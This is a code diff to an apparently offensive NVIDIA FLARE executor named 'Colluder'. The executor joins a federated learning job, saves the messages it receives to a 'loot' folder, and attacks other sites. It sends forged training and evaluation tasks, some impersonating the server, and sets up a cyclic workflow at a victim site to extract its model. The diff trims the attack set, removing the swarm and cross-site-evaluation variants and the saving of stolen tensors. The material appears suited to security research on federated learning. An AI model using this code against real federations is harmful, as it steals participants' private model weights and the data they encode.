@@ -21,10 +21,7 @@ from nvflare.apis.fl_context import FLContext
 from nvflare.apis.shareable import ReservedHeaderKey, Shareable, make_reply
 from nvflare.apis.signal import Signal
 from nvflare.app_common.app_constant import AppConstants
-from nvflare.app_common.ccwf.common import Constant, ModelType
-from nvflare.fuel.utils import fobs
-from nvflare.fuel.utils.fobs import FOBSContextKey
-from safetensors.torch import save_file
+from nvflare.app_common.ccwf.common import Constant
 
 LOOT = "loot"
 DONE = "done"
@@ -37,7 +34,7 @@ Genuine = tuple[dict[str, torch.Tensor], dict[str, Any]]  # model, and meta, of 
 
 
 class Colluder(Executor):
-    """Takes what the client-controlled workflows send to a site, keeps it in a file, and attacks ``victims``.
+    """Takes what the cyclic workflow sends to a site, keeps it in a file, and attacks ``victims``.
 
     It starts with the first training task of a job, from what came with it; what it got lies in ``loot/`` of its kit,
     one file per message.
@@ -56,7 +53,6 @@ class Colluder(Executor):
             self._engine = fl_ctx.get_engine()
             self.folder = Path(self._engine.get_workspace().get_root_dir()) / LOOT
             self.folder.mkdir(exist_ok=True)
-            self._engine.register_aux_message_handler("swarm_req_to_submit_learn_result", self._permit)
         task = fl_ctx.get_prop(FLContextKey.TASK_NAME)
         if event_type == EventType.BEFORE_TASK_EXECUTION and task == "train" and self._genuine is None:
             dxo = fl_ctx.get_prop(FLContextKey.TASK_DATA)["DXO"]
@@ -64,13 +60,8 @@ class Colluder(Executor):
             self._begin()
 
     def execute(self, task_name: str, shareable: Shareable, fl_ctx: FLContext, abort_signal: Signal) -> Shareable:
-        """Answer a task of a client-controlled workflow; whoever sent it, what is in it is kept."""
-        self._keep(task_name, shareable)
-        if task_name == "cse_ask_for_model":
-            return self._task(self.victims[0])
-        return make_reply(ReturnCode.OK)
-
-    def _permit(self, topic: str, request: Shareable, fl_ctx: FLContext) -> Shareable:
+        """Answer a task of the cyclic workflow; whoever sent it, what is in it is kept."""
+        self._note(task_name, repr(shareable))
         return make_reply(ReturnCode.OK)
 
     def _begin(self) -> None:
@@ -83,59 +74,44 @@ class Colluder(Executor):
     def _attack(self, victim: str) -> None:
         for name, attack in self._ways(victim).items():
             try:
-                self._keep(f"answer of {victim} to {name}", attack())
+                self._note(f"answer of {victim} to {name}", repr(attack()))
             except Exception as error:  # noqa: BLE001 - the next way may work
                 self._note(f"answer of {victim} to {name}", repr(error))
         (self.folder / f"{DONE}.{victim}").write_text("", encoding="utf-8")
 
     def _ways(self, victim: str) -> dict[str, Callable[[], Shareable]]:
-        """Return the attacks by name, each of which sends what it takes and returns the victim's last answer."""
-        local_model = self._evaluation(ModelType.LOCAL)
+        """Return the attacks by name, each of which returns the victim's last answer."""
         return {
             "plain": lambda: self._send(victim, "train", self._task(victim)),
             "as the server": lambda: self._send(victim, "train", self._task(victim), identity=PROJECT),
-            "probe": lambda: self._send(victim, "probe", self._task(victim)),
             "evaluate": lambda: self._send(victim, "evaluate", self._task(victim)),
-            "cyclic": lambda: self._workflow(victim, "cyclic", "learn", self._task(victim)),
-            "swarm": lambda: self._workflow(victim, "swarm", "learn", self._task(victim)),
-            "cse": lambda: self._workflow(victim, "cse", "eval", self._evaluation(ModelType.GLOBAL)),
-            "cse, local model": lambda: self._workflow(victim, "cse", "prep_model", local_model),
-            "cse, prepared model": lambda: self._send(victim, "cse_ask_for_model", local_model),
+            "cyclic": lambda: self._cyclic(victim),
         }
 
     def _task(self, victim: str) -> Shareable:
-        """Return a training task like the server's, with all that the client-controlled workflows look for."""
+        """Return a training task like the server's, with all that the cyclic workflow looks for."""
         assert self._genuine is not None
         state, meta = self._genuine
         task = DXO(DataKind.WEIGHTS, data=dict(state), meta=copy.deepcopy(meta)).to_shareable()
         task.set_header(AppConstants.CURRENT_ROUND, 0)
         task.set_header(AppConstants.NUM_ROUNDS, 1)
         task.set_header(Constant.CLIENT_ORDER, [victim, self._me])
-        task.set_header(Constant.AGGREGATOR, self._me)
         return task
 
-    def _evaluation(self, model_type: str) -> Shareable:
-        return Shareable(
-            {
-                Constant.MODEL_TYPE: model_type,
-                Constant.MODEL_NAME: "model",
-                Constant.MODEL_OWNER: self._me,
-                AppConstants.CURRENT_ROUND: 0,
-            }
-        )
-
-    def _workflow(self, victim: str, prefix: str, step: str, data: Shareable) -> Shareable:
-        """Configure a client-controlled workflow at the victim, as its server half would, and ask for one step."""
+    def _cyclic(self, victim: str) -> Shareable:
+        """Configure FLARE's cyclic workflow at the victim, as its server half would, and ask for one step."""
         config = {
-            FLContextKey.WORKFLOW: f"stolen_{prefix}_{time.monotonic_ns()}",
-            **{AppConstants.NUM_ROUNDS: 1, Constant.START_ROUND: 0, Constant.ORDER: "fixed"},
-            **{Constant.PRIVATE_P2P: False, Constant.EVAL_LOCAL: False, Constant.EVAL_GLOBAL: False},
+            FLContextKey.WORKFLOW: f"stolen_{time.monotonic_ns()}",
+            **{
+                AppConstants.NUM_ROUNDS: 1,
+                Constant.START_ROUND: 0,
+                Constant.ORDER: "fixed",
+                Constant.PRIVATE_P2P: False,
+            },
             **{key: [victim, self._me] for key in (Constant.RESULT_CLIENTS, Constant.CLIENTS)},
-            **{key: [victim] for key in (Constant.EVALUATORS, Constant.TRAIN_CLIENTS)},
-            **{Constant.EVALUATEES: [], Constant.AGGR_CLIENTS: [self._me]},
         }
-        self._send(victim, f"{prefix}_config", Shareable({Constant.CONFIG: config}))
-        answer = self._send(victim, f"{prefix}_{step}", data)
+        self._send(victim, "cyclic_config", Shareable({Constant.CONFIG: config}))
+        answer = self._send(victim, "cyclic_learn", self._task(victim))
         time.sleep(PATIENCE_S)  # the victim's workflow does the task in a thread of its own, and sends what comes of it
         return answer
 
@@ -150,37 +126,11 @@ class Colluder(Executor):
         answer = answers.get(victim)
         return answer if isinstance(answer, Shareable) else Shareable({"answer": repr(answer)})
 
-    def _keep(self, what: str, message: Shareable) -> None:
-        """Write down all that came: tensors as they are, the rest as text."""
-        cell = self._engine.get_cell()  # tensors may be references, which the receiver is to follow
-        encoded = fobs.dumps(message, fobs_ctx=cell.get_fobs_context())
-        message = fobs.loads(encoded, fobs_ctx=cell.get_fobs_context(props={FOBSContextKey.PASS_THROUGH: False}))
-        tensors: dict[str, torch.Tensor] = {}
-        _collect(tensors, "", message)
-        content = {key: value if key != "DXO" else value["kind"] for key, value in message.items()}
-        name = self._note(what, repr(content))
-        if tensors:
-            save_file(tensors, self.folder / f"{name}.safetensors")
-
-    def _note(self, what: str, text: str) -> str:
+    def _note(self, what: str, text: str) -> None:
         with self._keeping:
-            name = f"{len(list(self.folder.iterdir())):03d} {what}"
-            (self.folder / f"{name}.txt").write_text(text, encoding="utf-8")
-        return name
+            name = f"{len(list(self.folder.iterdir())):03d} {what}.txt"
+            (self.folder / name).write_text(text, encoding="utf-8")
 
     @property
     def _me(self) -> str:
         return str(self._engine.client.client_name)
-
-
-def _collect(found: dict[str, torch.Tensor], place: str, value: Any) -> None:
-    if isinstance(value, dict):
-        for key, part in value.items():
-            _collect(found, f"{place}/{key}", part)
-    elif isinstance(value, list | tuple):
-        for index, part in enumerate(value):
-            _collect(found, f"{place}/{index}", part)
-    elif isinstance(value, DXO):
-        _collect(found, place, value.data)
-    elif hasattr(value, "shape"):
-        found[place] = torch.as_tensor(value).detach().clone().contiguous()
